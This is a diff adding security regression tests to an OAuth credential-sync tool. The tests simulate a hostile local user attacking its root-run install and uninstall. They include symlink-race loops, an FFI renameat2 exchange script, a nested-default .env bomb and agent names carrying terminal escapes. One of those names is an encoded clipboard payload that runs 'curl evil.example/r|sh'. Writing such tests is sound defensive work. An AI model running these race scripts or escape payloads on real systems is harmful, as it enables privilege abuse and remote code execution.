@@ -90,6 +90,8 @@ beforeAll(() => {
   bin = join(base, "bin/oauth-sync");
   copyFileSync(requireBinary(), bin);
   chmodSync(bin, 0o755);
+  copyFileSync(process.execPath, join(base, "bin/bun")); // for the attacker's own renameat2 (bun:ffi)
+  chmodSync(join(base, "bin/bun"), 0o755);
   for (const dir of ["mallory", "mallory/home", "mallory/home/.claude", "mallory/home/.openclaw", "mallory-home"]) {
     mkdirSync(join(base, dir), { mode: 0o755 });
     chownSync(join(base, dir), uid, gid);
@@ -388,4 +390,158 @@ describe("the honest path", () => {
     expect(existsSync(rootLeftover)).toBe(false);
     expect(existsSync(foreign)).toBe(true);
   });
+});
+
+describe("attacks on install and uninstall (issue 18.6)", () => {
+  const roothome = () => join(base, "roothome");
+  /** The binary as root with its own HOME under the test's base: a --user layout there never touches the host's. */
+  async function asRootAt(args: string[], extra: Record<string, string> = {}, timeoutMs = 60_000) {
+    const child = spawn(bin, args, { env: { PATH: `${base}/fakes:${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: roothome(), ...extra } });
+    let output = "";
+    child.stdout.on("data", (c) => (output += c));
+    child.stderr.on("data", (c) => (output += c));
+    const code = await new Promise<number | null>((resolve) => {
+      const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
+      child.on("exit", (c) => {
+        clearTimeout(timer);
+        resolve(c);
+      });
+    });
+    return { code, output };
+  }
+  /** A prepared config of root's (its targets in root's places). */
+  function prepared(name: string, extra: Record<string, unknown> = {}): string {
+    return writeConfig(name, { credentials: rootCredentials(), targets: [{ kind: "env-file", path: join(base, "root/targets", `${name}.env`) }], trigger: { mode: "none" }, ...extra });
+  }
+  const modeOf = (path: string) => statSync(path).mode & 0o7777;
+
+  beforeAll(() => {
+    mkdirSync(roothome(), { mode: 0o700 });
+    // A systemctl that answers for nothing: install and uninstall here never reach the host's managers.
+    mkdirSync(join(base, "fakes"), { mode: 0o755 });
+    writeFileSync(join(base, "fakes/systemctl"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    writeFileSync(join(base, "fakes/systemd-analyze"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    writeFileSync(join(base, "fakes/loginctl"), "#!/bin/sh\necho yes\n", { mode: 0o755 });
+  });
+
+  attack("the temp file swapped for a link while install copies the binary into a user's bin dir: a root-only file keeps its mode", async () => {
+    const secret = join(base, "root/push.key");
+    writeFileSync(secret, "root-only key\n", { mode: 0o600 });
+    const binDir = join(base, "mallory/bin");
+    asMallory(`mkdir -p ${binDir} ${base}/mallory/rcfg`);
+    const swaps = join(base, "log/swaps");
+    // As mallory: every temp file that appears in the bin dir is replaced by a link to root's key, as fast as possible.
+    const swapper = spawn("sh", ["-c", `while :; do for f in ${binDir}/.oauth-sync.*.tmp; do [ -e "$f" ] || continue; rm -f "$f" && ln -s ${secret} "$f" && echo x >> ${swaps}; done; done`], { uid, gid, stdio: "ignore" });
+    try {
+      const config = writeConfig("receiver-bin", { source: "push", stateDir: join(base, "mallory/rstate"), targets: [{ kind: "env-file", path: join(base, "mallory/rcv.env") }] });
+      for (let i = 0; i < 3; i++) {
+        rmSync(join(binDir, "oauth-sync"), { force: true });
+        await asRootAt(["install", "--receiver", "--login", MALLORY, "--bin-dir", binDir, "--config-path", join(base, "mallory/rcfg/config.json"), "--config", config, "--yes"]);
+        expect(modeOf(secret)).toBe(0o600);
+        expect(statSync(secret).uid).toBe(0);
+        expect(readFileSync(secret, "utf8")).toBe("root-only key\n");
+      }
+    } finally {
+      swapper.kill("SIGKILL");
+    }
+    expect(existsSync(swaps)).toBe(true); // the swap was really played
+    // A bin dir root does not own, for units that run as root: refused before anything is made there.
+    const result = await asRootAt(["install", "--user", "--yes", "--no-test", "--config", prepared("bin-refused"), "--bin-dir", join(base, "mallory/bin2")]);
+    expect(result.code).toBe(8);
+    expect(result.output).toContain(`belongs to ${MALLORY}`);
+    expect(existsSync(join(base, "mallory/bin2"))).toBe(false);
+  }, 120_000);
+
+  attack("uninstall --purge of a state dir whose parent a user swapped for a link: root's tree of the same name survives", async () => {
+    mkdirSync(join(base, "root/st/data"), { recursive: true, mode: 0o700 });
+    writeFileSync(join(base, "root/st/data/keep.txt"), "root's\n", { mode: 0o600 });
+    // What an earlier release's manifest could say: a state dir it accepted inside a user's directory.
+    const state = join(base, "mallory/st/data");
+    asMallory(`mkdir -p ${state}`);
+    const manifestDir = join(roothome(), ".local/state/oauth-sync");
+    mkdirSync(manifestDir, { recursive: true, mode: 0o700 });
+    writeFileSync(join(manifestDir, "install.json"), JSON.stringify({ version: "0.1.0", binary: join(roothome(), ".local/bin/oauth-sync"), configPath: join(roothome(), ".config/oauth-sync/config.json"), stateDir: state, units: [], user: true }));
+    asMallory(`rm -rf ${base}/mallory/st && ln -s ${base}/root/st ${base}/mallory/st`);
+    const result = await asRootAt(["uninstall", "--user", "--purge"]);
+    expect(readFileSync(join(base, "root/st/data/keep.txt"), "utf8")).toBe("root's\n");
+    expect(result.code).toBe(8);
+    expect(result.output).toContain("symbolic link");
+  });
+
+  attack("the config path swapped with a link to root's file (renameat2 RENAME_EXCHANGE) during install: refused before any chmod", async () => {
+    const dir = join(base, "mallory/cfgdir");
+    asMallory(`mkdir -p ${dir} && echo '{}' > ${dir}/config.json && chmod 644 ${dir}/config.json && ln -s ${canary()} ${dir}/evil`);
+    const script = join(base, "bin/exchange.ts");
+    writeFileSync(
+      script,
+      `import { dlopen, FFIType } from "bun:ffi";
+const libc = dlopen("libc.so.6", { renameat2: { args: [FFIType.i32, FFIType.ptr, FFIType.i32, FFIType.ptr, FFIType.u32], returns: FFIType.i32 } });
+const [a, b] = [Buffer.from(${JSON.stringify(join(dir, "config.json"))} + "\\0"), Buffer.from(${JSON.stringify(join(dir, "evil"))} + "\\0")];
+const end = Date.now() + 20_000;
+let n = 0;
+while (Date.now() < end) if (libc.symbols.renameat2(-100, a, -100, b, 2) === 0) n++;
+console.log(n);
+`,
+      { mode: 0o644 },
+    );
+    const swapper = spawn(join(base, "bin/bun"), [script], { uid, gid, stdio: ["ignore", "pipe", "inherit"] });
+    let exchanges = "";
+    swapper.stdout!.on("data", (c) => (exchanges += c));
+    try {
+      for (let i = 0; i < 5; i++) {
+        const result = await asRootAt(["install", "--user", "--yes", "--no-test", "--config", prepared("swap"), "--config-path", join(dir, "config.json")]);
+        expect(result.code).toBe(8);
+        expect(result.output).toContain(`belongs to ${MALLORY}`);
+        expectCanaryUntouched();
+      }
+    } finally {
+      swapper.kill("SIGINT");
+      await new Promise((resolve) => swapper.once("exit", resolve));
+    }
+    expectCanaryUntouched();
+  }, 120_000);
+
+  attack("a FIFO at the config path does not hang install --dry-run", async () => {
+    const fifo = join(base, "root/fifocfg/config.json");
+    mkdirSync(join(base, "root/fifocfg"), { mode: 0o700 });
+    spawnSync("mkfifo", [fifo]);
+    const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--config", prepared("fifo"), "--config-path", fifo], {}, 20_000);
+    expect(result.code).toBe(8); // not killed by the timeout
+    expect(result.output).toContain("FIFO");
+  });
+
+  attack("a nested-default bomb in a user's compose .env is refused in bounded time (no docker compose here)", async () => {
+    mkdirSync(join(base, "nocompose"), { mode: 0o755 });
+    writeFileSync(join(base, "nocompose/docker"), "#!/bin/sh\necho \"docker: 'compose' is not a docker command.\" >&2\nexit 1\n", { mode: 0o755 });
+    const project = join(base, "mallory/proj");
+    asMallory(`mkdir -p ${project}/state`);
+    writeFileSync(join(project, "docker-compose.yml"), "services:\n  openclaw-gateway:\n    image: ghcr.io/openclaw/openclaw:2026.5.28\n    volumes:\n      - ${OPENCLAW_CONFIG_DIR}:/home/node/.openclaw\n");
+    for (const kb of [300, 1200]) {
+      const levels = Math.floor((kb * 1000) / 7);
+      writeFileSync(join(project, ".env"), `OPENCLAW_CONFIG_DIR=${"${X:-".repeat(levels)}${project}/state${"}".repeat(levels)}\n`);
+      spawnSync("chown", ["-R", `${uid}:${gid}`, project]);
+      const started = performance.now();
+      const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--trigger", "none", "--credentials", rootCredentials(), "--project-dir", project], { PATH: `${base}/nocompose:${base}/fakes:${base}/bin:/usr/local/bin:/usr/bin:/bin` }, 25_000);
+      console.log(`.env of ${kb} KB with nested defaults: install --dry-run ended in ${((performance.now() - started) / 1000).toFixed(2)} s (exit ${result.code})`);
+      expect(result.code).toBe(2);
+      expect(result.output).toMatch(/\.env: \$\{…\} nested deeper than 32 levels \(.*\): refused/);
+    }
+  }, 120_000);
+
+  attack("300 agent directories and names with ESC and a newline in a user's OpenClaw: odd names skipped and said so, 8 proposed, nothing fails", async () => {
+    const state = join(base, "mallory/oc/.openclaw");
+    asMallory(`mkdir -p ${state}/agents && cd ${state}/agents && for i in $(seq -w 1 300); do mkdir -p a$i/agent; done`);
+    writeFileSync(join(state, "openclaw.json"), JSON.stringify({ meta: { lastTouchedVersion: "2026.5.28" } }));
+    const odd = ["evil\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\u0007", "two\nlines", "\u001b[2Kfake"];
+    for (const name of odd) mkdirSync(join(state, "agents", name));
+    spawnSync("chown", ["-R", `${uid}:${gid}`, join(base, "mallory/oc")]);
+    const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--trigger", "none", "--credentials", rootCredentials(), "--openclaw-dir", state]);
+    expect(result.code, result.output).toBe(0);
+    expect(result.output).not.toContain("\u001b");
+    expect(result.output).not.toContain("two\nlines");
+    expect(result.output).toContain("skipped agent name(s)");
+    expect(result.output).toContain("--max-agents 300");
+    const config = JSON.parse(result.output.slice(result.output.indexOf("config to install:\n") + 19, result.output.indexOf("\n}\n") + 2));
+    expect(config.targets).toHaveLength(8);
+  }, 60_000);
 });
